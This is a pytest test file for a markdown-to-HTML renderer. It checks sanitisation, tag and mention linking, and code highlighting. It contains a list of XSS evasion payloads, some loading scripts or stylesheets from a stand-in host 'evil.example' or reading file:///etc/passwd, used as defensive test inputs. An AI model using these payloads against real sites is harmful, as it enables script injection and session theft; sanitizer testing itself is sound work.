"""Texts become HTML that is safe to show, with their tags and mentions."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from community.markdown import Renderer, possible_mentions, tag_name

# After OWASP's filter evasion cheat sheet, in the ways that markdown adds: each is tried as text,
# as a link's address, as a link's title, as a picture, in code, and as the name of a language.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=javascript:alert(1)>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=`javascript:alert(1)`>",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    '<iframe srcdoc="<script>alert(1)</script>">',
    "<body onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav\tascript:alert(1)">x</a>',
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=https://evil.example/>",
    "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg>",
    "<form action=https://evil.example><button>x</button></form>",
    "<details open ontoggle=alert(1)>",
    '<div style="background:url(javascript:alert(1))">',
    '<xss style="behavior: url(xss.htc);">',
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)",
    "java\tscript:alert(1)",
    "java%0ascript:alert(1)",
    " &#14;  javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "file:///etc/passwd",
    "//evil.example/x",
    "\\\\evil.example\\x",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    '" onmouseover="alert(1)" x="',
    'https://a.example/" onclick="alert(1)',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "</code></pre><script>alert(1)</script>",
    "x' class='hl-k' onclick='alert(1)",
]
WAYS = [
    "{}",
    "# {}",
    "> - {}",
    "[x]({})",
    "[x](<{}>)",
    '[x](https://a.example "{}")',
    "[x][1]\n\n[1]: {}",
    "[x][1]\n\n[1]: <{}> '{}'",
    "![{}]({})",
    "<{}>",
    "`{}`",
    "```\n{}\n```",
    "```{}\nx\n```",
    "```html\n{}\n```",
    "| a |\n|---|\n| {} |",
    "#a{}",
    "@ann{}",
    "[@ann {}](https://a.example)",
]
HARMLESS = {
    "a", "blockquote", "br", "code", "del", "em", "h2", "h3", "h4", "hr", "li", "ol", "p", "pre",
    "span", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip


class Reader(HTMLParser):
    """Reads HTML as a page would and keeps what elements and attributes there are."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
    reader = Reader()
    reader.feed(html)
    reader.close()
    return reader.found


@pytest.fixture(scope="module")
def renderer() -> Renderer:
    return Renderer()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_script_gets_through_in_any_way(renderer: Renderer, payload: str) -> None:
    for way in WAYS:
        html = renderer.render(way.replace("{}", payload), people=["ann"]).html
        for tag, attributes in elements(html):
            assert tag in HARMLESS, (way, html)
            assert set(attributes) <= {"href", "title", "rel", "class", "start"}, (way, html)
            address = attributes.get("href")
            if address is not None:
                assert address.startswith(
                    ("https://", "http://", "mailto:", "/users/ann", "/tags/")
                ), (way, html)
                assert attributes["rel"] == "nofollow ugc noopener"
            for word in (attributes.get("class") or "").split():
                assert word.startswith(("language-", "hl-")), (way, html)


def test_text_keeps_its_meaning(renderer: Renderer) -> None:
    rendered = renderer.render(
        "# Hello\n\nI *like* **this** ~~that~~\nand `x < y`.\n\n3. three\n4. four\n\n> said\n"
    )
    assert rendered.html == (
        "<h2>Hello</h2>\n<p>I <em>like</em> <strong>this</strong> <del>that</del><br>\n"
        "and <code>x &lt; y</code>.</p>\n"
        '<ol start="3">\n<li>three</li>\n<li>four</li>\n</ol>\n'
        "<blockquote>\n<p>said</p>\n</blockquote>\n"
    )


def test_code_is_coloured_by_its_language(renderer: Renderer) -> None:
    html = renderer.render("```python\nreturn '<b>'\n```").html
    assert html == (
        '<pre><code class="language-python"><span class="hl-k">return</span> '
        "<span class=\"hl-s1\">'&lt;b&gt;'</span>\n</code></pre>\n"
    )
    unknown = renderer.render("```klingon\nqapla\n```").html
    assert unknown == '<pre><code class="language-klingon">qapla\n</code></pre>\n'


def test_code_that_is_too_long_has_no_colours(renderer: Renderer) -> None:
    block = f"```python\n{'x = 1' + chr(10)}```\n"
    long = f"```python\n{'x = 1' + chr(10)}{'# ' + 'y' * 19_990 + chr(10)}```\n"
    html = renderer.render(block + long).html
    assert html.count("hl-n") == 1


def test_tags_and_mentions_become_links(renderer: Renderer) -> None:
    rendered = renderer.render(
        "#Rust and #c++, #live_coding. Thanks @ANN and @nobody!", people=["Ann"]
    )
    assert rendered.tags == ("rust", "c++", "live-coding")
    assert rendered.mentions == ("Ann",)
    links = [a["href"] for tag, a in elements(rendered.html) if tag == "a"]
    assert links == ["/tags/rust", "/tags/c++", "/tags/live-coding", "/users/Ann"]
    assert ">#live_coding</a>." in rendered.html and "@nobody!" in rendered.html


def test_code_links_addresses_and_numbers_hold_no_names(renderer: Renderer) -> None:
    rendered = renderer.render(
        "`#a @ann` [#b @ann](https://x.example) https://x.example/#c x@ann.example a#d &#101;"
        " #1\n\n```\n#e @ann\n```",
        people=["ann"],
    )
    assert (rendered.tags, rendered.mentions) == ((), ())


def test_picture_from_elsewhere_becomes_a_link(renderer: Renderer) -> None:
    html = renderer.render("![my cat](https://x.example/cat.png)").html
    assert html == (
        '<p><a href="https://x.example/cat.png" rel="nofollow ugc noopener">my cat</a></p>\n'
    )


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ("Rust", "rust"),
        ("C#", "c#"),
        ("node.js", "node.js"),
        ("live_Coding-", "live-coding"),
        ("2026", None),
        ("-a", None),
        ("größe", None),
        ("a b", None),
        ("a/b", None),
        ("x" * 51, None),
        ("", None),
    ],
)
def test_what_is_a_tag(text: str, name: str | None) -> None:
    assert tag_name(text) == name


def test_people_to_look_up_are_found_once() -> None:
    assert possible_mentions("@Ann @bob_1 @ann @ab x@cid.example") == ["ann", "bob_1", "cid"]
